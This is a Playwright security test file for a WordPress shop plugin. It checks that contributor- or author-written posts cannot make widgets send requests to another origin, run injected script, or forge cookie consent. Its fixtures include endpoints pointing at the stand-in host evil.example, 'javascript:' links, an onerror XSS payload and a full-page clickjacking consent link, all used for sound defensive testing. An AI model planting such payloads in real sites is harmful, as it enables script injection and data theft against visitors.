/**
 * Trust boundaries in the browser (docs/security.md): a Contributor's post imitates Vitrine widgets
 * (a fake loop grid that a real filter connects to, a fake cart and add-to-cart pointing at another
 * origin, a div shadowing the affiliate settings). It is saved through the REST API, so WordPress's
 * own filters apply, and an administrator previews it and uses it: no request leaves the site's
 * origin and no injected markup runs.
 */
import { test, expect, ADMIN_STATE } from './fixtures';
import type { APIRequestContext, Browser, Page, Request } from '@playwright/test';
import { needsWooCommerce, productId } from './shop-helpers';

const EVIL = 'https://evil.example';
const GRAVATAR = 'secure.gravatar.com';

/**
 * Real blocks come first: each block's view script loads only where the block renders (docs/builder.md),
 * so the handlers the imitations aim at are on the page, as they would be on a shop's page.
 */
const REAL_BLOCKS = `
<!-- wp:vitrine/cart {"layout":"mini"} /-->
<!-- wp:vitrine/checkout /-->`;

const ATTACK = `${ REAL_BLOCKS }
<!-- wp:vitrine/add-to-cart {"productId":5} /-->
<!-- wp:vitrine/loop-filter {"targetWidgetId":"evil1","taxonomy":"category"} /-->
<!-- wp:html -->
<div class="vitrine-loop-grid" data-widget-id="evil1" data-post-id="1" data-rest-base="${ EVIL }/wp-json/">
<div class="vitrine-loop-grid__content"><p>Innocent grid</p></div><p class="vitrine-loop-grid__status"></p></div>
<div class="vitrine-cart-widget" data-vitrine="cart" data-settings='{"storeApi":"${ EVIL }/wc/store/v1/"}'><p class="vitrine-cart-widget__status"></p></div>
<div class="vitrine-add-to-cart" data-vitrine="add-to-cart" data-settings='{"productId":5,"storeApi":"${ EVIL }/wc/store/v1/","cartUrl":"javascript:window.__pwned=1"}'>
<form class="vitrine-add-to-cart__form" action="#"><button class="vitrine-add-to-cart__button" type="submit">Add</button></form><p class="vitrine-add-to-cart__status"></p></div>
<div id="vitrine-affiliate-settings">{"geo":{"countryUrl":"${ EVIL }/country"}}</div>
<!-- /wp:html -->`;

/** The evil origin answers every request with markup that would run if it were inserted. */
async function serveEvil( page: Page ): Promise< void > {
	await page.route( `${ EVIL }/**`, ( route ) =>
		route.fulfill( {
			status: 200,
			contentType: 'application/json',
			headers: { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Credentials': 'true' },
			body: JSON.stringify( { data: '<img src="data:," onerror="window.__pwned=1">', items: [] } ),
		} )
	);
}

async function restAs( browser: Browser, baseURL: string, user: string, password: string ) {
	const context = await browser.newContext( { baseURL } );
	const page = await context.newPage();
	await page.goto( '/wp-login.php' );
	await page.fill( '#user_login', user );
	await page.fill( '#user_pass', password );
	await Promise.all( [ page.waitForURL( /wp-admin/ ), page.click( '#wp-submit' ) ] );
	const nonce = await ( await page.request.get( '/wp-admin/admin-ajax.php?action=rest-nonce' ) ).text();
	return { context, request: page.request, headers: { 'X-WP-Nonce': nonce } };
}

async function adminNonce( request: APIRequestContext ): Promise< Record< string, string > > {
	return { 'X-WP-Nonce': await ( await request.get( '/wp-admin/admin-ajax.php?action=rest-nonce' ) ).text() };
}

test.describe( 'post content cannot steer the frontend', () => {
	test.use( { storageState: ADMIN_STATE } );

	test( 'a Contributor’s imitation widgets send nothing off the site when an administrator previews them', async ( {
		page,
		browser,
		baseURL,
	} ) => {
		const admin = await adminNonce( page.request );
		const login = `contrib_${ Date.now() }`;
		const password = `Pw-${ Date.now() }-x!`;
		const user = await page.request.post( '/wp-json/wp/v2/users', {
			headers: admin,
			data: { username: login, password, email: `${ login }@example.com`, roles: [ 'contributor' ] },
		} );
		expect( user.status() ).toBe( 201 );
		const userId = ( await user.json() ).id as number;
		let postId = 0;
		try {
			const contributor = await restAs( browser, baseURL!, login, password );
			const saved = await contributor.request.post( '/wp-json/wp/v2/posts', {
				headers: contributor.headers,
				data: { title: 'A harmless draft', status: 'pending', content: ATTACK },
			} );
			expect( saved.status() ).toBe( 201 );
			postId = ( await saved.json() ).id;
			await contributor.context.close();

			const foreign: string[] = [];
			const origin = new URL( baseURL! ).origin;
			page.on( 'request', ( request: Request ) => {
				const url = new URL( request.url() );
				// Avatars (the admin bar's, the author's byline) are WordPress's, not the content's.
				if ( /^https?:$/.test( url.protocol ) && url.origin !== origin && url.host !== GRAVATAR ) {
					foreign.push( request.url() );
				}
			} );
			await serveEvil( page );
			await page.route( `https://${ GRAVATAR }/**`, ( route ) => route.fulfill( { status: 204 } ) );
			await page.goto( `/?p=${ postId }&preview=true` );
			// The real filter block rendered and its handler ran (the runtime marks its term links).
			const term = page.locator( '.vitrine-loop-filter a[data-term]' ).nth( 1 );
			await expect( term ).toBeVisible();
			await term.click();
			await page.waitForURL( /e-filter-evil1-category=/ ); // A plain link: the page loaded again.
			await page.getByRole( 'button', { name: 'Add', exact: true } ).click();
			await page.waitForLoadState( 'networkidle' );
			expect( foreign ).toEqual( [] );
			expect(
				await page.evaluate( () => ( window as unknown as { __pwned?: number } ).__pwned )
			).toBeUndefined();
			await expect( page.locator( 'a[href^="javascript:"]' ) ).toHaveCount( 0 );
			await expect( page.locator( '.vitrine-loop-grid' ) ).toContainText( 'Innocent grid' );
		} finally {
			if ( postId ) {
				await page.request.delete( `/wp-json/wp/v2/posts/${ postId }?force=true`, { headers: admin } );
			}
			await page.request.delete( `/wp-json/wp/v2/users/${ userId }?force=true&reassign=1`, { headers: admin } );
		}
	} );

	/*
	 * Defence in depth: an administrator may write any markup (unfiltered_html), so nothing is
	 * stripped; the handlers themselves still refuse endpoints on another origin and non-http links.
	 */
	test( 'the shop and loop handlers refuse foreign endpoints and javascript: links even in trusted markup', async ( {
		page,
		browser,
		baseURL,
	} ) => {
		needsWooCommerce(); // The add-to-cart widget adds the demo catalogue's cup through the real Store API.
		const admin = await adminNonce( page.request );
		const origin = new URL( baseURL! ).origin;
		const cupId = await productId( page.request, 'vitrine-cup' );
		const trusted = `${ REAL_BLOCKS }
<!-- wp:vitrine/add-to-cart {"productId":${ cupId }} /-->
<!-- wp:vitrine/loop-filter {"targetWidgetId":"evil2","taxonomy":"category"} /-->
<!-- wp:html -->
<div id="trusted-markup">
<div class="vitrine-loop-grid" data-widget-id="evil2" data-post-id="1" data-rest-base="${ EVIL }/wp-json/"><div class="vitrine-loop-grid__content"><p>Grid</p></div></div>
<div class="vitrine-cart-widget" data-vitrine="cart" data-settings='{"storeApi":"${ EVIL }/wc/store/v1/"}'><p class="vitrine-cart-widget__status"></p></div>
<div class="vitrine-checkout" data-vitrine="checkout" data-settings='{"storeApi":"${ EVIL }/wc/store/v1/"}'><form class="vitrine-checkout__form" action="#"></form><p class="vitrine-checkout__status"></p><p class="vitrine-checkout__alert"></p></div>
<div class="vitrine-add-to-cart" data-vitrine="add-to-cart" data-settings='{"productId":${ cupId },"name":"Espresso cup","storeApi":"${ origin }/wp-json/wc/store/v1/","cartUrl":"javascript:window.__pwned=1","added":"%1$d × %2$s added.","viewCart":"View cart"}'>
<form class="vitrine-add-to-cart__form" action="#"><button class="vitrine-add-to-cart__button" type="submit">Add the cup</button></form><p class="vitrine-add-to-cart__status" role="status"></p></div>
</div>
<!-- /wp:html -->`;
		const saved = await page.request.post( '/wp-json/wp/v2/posts', {
			headers: admin,
			data: { title: 'Trusted markup', status: 'publish', content: trusted },
		} );
		expect( saved.status() ).toBe( 201 );
		const { id, link } = ( await saved.json() ) as { id: number; link: string };
		const visitor = await browser.newContext( { baseURL } );
		try {
			const view = await visitor.newPage();
			const foreign: string[] = [];
			view.on( 'request', ( request: Request ) => {
				const url = new URL( request.url() );
				if ( url.origin !== origin && url.host !== GRAVATAR ) {
					foreign.push( request.url() );
				}
			} );
			view.on( 'pageerror', ( error ) => foreign.push( `uncaught: ${ error.message }` ) );
			await serveEvil( view );
			await view.route( `https://${ GRAVATAR }/**`, ( route ) => route.fulfill( { status: 204 } ) );
			await view.goto( link );
			const cup = view.locator( '#trusted-markup .vitrine-add-to-cart' );
			await cup.getByRole( 'button', { name: 'Add the cup' } ).click();
			// Added through this site's Store API, but the javascript: cart link is not offered.
			await expect( cup.getByRole( 'status' ) ).toHaveText( '1 × Espresso cup added.' );
			await expect( cup.getByRole( 'link' ) ).toHaveCount( 0 );
			await view.locator( '.vitrine-loop-filter a[data-term]' ).nth( 1 ).click();
			await view.waitForURL( /e-filter-evil2-category=/ );
			await view.waitForLoadState( 'networkidle' );
			expect( foreign ).toEqual( [] );
			expect(
				await view.evaluate( () => ( window as unknown as { __pwned?: number } ).__pwned )
			).toBeUndefined();
		} finally {
			await visitor.close();
			await page.request.delete( `/wp-json/wp/v2/posts/${ id }?force=true`, { headers: admin } );
		}
	} );
} );

test.describe( 'the trusted proxy setting', () => {
	test.use( { storageState: ADMIN_STATE } );

	test( 'is on Settings → General, keeps valid ranges and drops the rest', async ( { page } ) => {
		await page.route( `https://${ GRAVATAR }/**`, ( route ) => route.fulfill( { status: 204 } ) ); // The admin bar's avatar.
		await page.goto( '/wp-admin/options-general.php' );
		const header = page.getByLabel( 'Proxy header' );
		const proxies = page.getByLabel( 'Trusted proxies' );
		await header.selectOption( 'x-forwarded-for' );
		await proxies.fill( '10.0.0.0/8\nnot an address\n2001:db8::/32' );
		await page.getByRole( 'button', { name: 'Save Changes' } ).click();
		await expect( page.getByText( 'Settings saved.' ) ).toBeVisible();
		try {
			await expect( header ).toHaveValue( 'x-forwarded-for' );
			await expect( proxies ).toHaveValue( '10.0.0.0/8\n2001:db8::/32' );
			await expect( proxies ).toHaveAccessibleDescription( /one per line/ );
		} finally {
			await header.selectOption( '' );
			await proxies.fill( '' );
			await page.getByRole( 'button', { name: 'Save Changes' } ).click();
			await expect( page.getByText( 'Settings saved.' ) ).toBeVisible();
		}
	} );
} );

/** A user of this role, made by the administrator for one test and deleted afterwards. */
async function withUser(
	page: Page,
	browser: Browser,
	baseURL: string,
	role: string,
	run: ( user: Awaited< ReturnType< typeof restAs > > ) => Promise< void >
) {
	const admin = await adminNonce( page.request );
	const login = `${ role }_${ Date.now() }`;
	const password = `Pw-${ Date.now() }-x!`;
	const created = await page.request.post( '/wp-json/wp/v2/users', {
		headers: admin,
		data: { username: login, password, email: `${ login }@example.com`, roles: [ role ] },
	} );
	expect( created.status() ).toBe( 201 );
	const userId = ( await created.json() ).id as number;
	const user = await restAs( browser, baseURL, login, password );
	try {
		await run( user );
	} finally {
		await user.context.close();
		await page.request.delete( `/wp-json/wp/v2/users/${ userId }?force=true&reassign=1`, { headers: admin } );
	}
}

test.describe( 'consent cannot be forged by content (docs/security.md, "Consent")', () => {
	test.use( { storageState: ADMIN_STATE } );

	test( 'an Author’s page-sized accept link gives no consent when a visitor clicks it', async ( {
		page,
		browser,
		baseURL,
	} ) => {
		await withUser( page, browser, baseURL!, 'author', async ( author ) => {
			const saved = await author.request.post( '/wp-json/wp/v2/posts', {
				headers: author.headers,
				data: {
					title: 'Read this first',
					status: 'publish',
					content:
						'<!-- wp:html --><a href="#" class="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999" data-vitrine-consent-accept="advertisement">Continue reading</a><!-- /wp:html -->',
				},
			} );
			expect( saved.status() ).toBe( 201 );
			const { id, link } = ( await saved.json() ) as { id: number; link: string };
			const visitor = await browser.newContext( { baseURL, storageState: { cookies: [], origins: [] } } );
			try {
				const view = await visitor.newPage();
				const records: string[] = [];
				view.on( 'request', ( r ) => {
					if ( r.url().includes( '/vitrine/v1/consent/record' ) ) {
						records.push( r.url() );
					}
				} );
				await view.goto( link );
				await expect( view.locator( '#cookie-law-info-bar' ) ).toBeVisible();
				await view.getByRole( 'link', { name: 'Continue reading' } ).click();
				await expect( view ).toHaveURL( /#$/ ); // The click went through as a plain link.
				const consent = ( await visitor.cookies() )
					.map( ( c ) => c.name )
					.filter( ( name ) => /viewed_cookie_policy|CookieLawInfo|cookielawinfo|wp_consent/.test( name ) );
				expect( consent ).toEqual( [] );
				await expect( view.locator( '#cookie-law-info-bar' ) ).toBeVisible();
				expect( records ).toEqual( [] );
			} finally {
				await visitor.close();
				await page.request.delete( `/wp-json/wp/v2/posts/${ id }?force=true`, {
					headers: await adminNonce( page.request ),
				} );
			}
		} );
	} );

	test( 'a Contributor’s loop grid preview cannot list popups, which are not public', async ( {
		page,
		browser,
		baseURL,
	} ) => {
		await withUser( page, browser, baseURL!, 'contributor', async ( contributor ) => {
			const draft = await contributor.request.post( '/wp-json/wp/v2/posts', {
				headers: contributor.headers,
				data: {
					title: 'My grid',
					status: 'draft',
					content: '<!-- wp:vitrine/loop-grid {"widgetId":"popgrid","postType":"post"} /-->',
				},
			} );
			expect( draft.status() ).toBe( 201 );
			const postId = ( await draft.json() ).id as number;
			const answer = await contributor.request.post( '/wp-json/vitrine/v1/refresh-loop', {
				headers: contributor.headers,
				data: {
					post_id: postId,
					widget_id: 'popgrid',
					pagination_base_url: `${ baseURL }/`,
					widget_model: { postType: 'vitrine_popup', perPage: 48, showExcerpt: true },
					is_edit_mode: true,
				},
			} );
			expect( answer.status() ).toBe( 200 );
			const { data, found } = ( await answer.json() ) as { data: string; found: number };
			expect( found ).toBeGreaterThan( 0 ); // Posts are listed instead.
			for ( const popup of [ 'Welcome offer', 'Before you go', 'Ad blocker detected', 'exit intent' ] ) {
				expect( data ).not.toContain( popup );
			}
		} );
	} );
} );
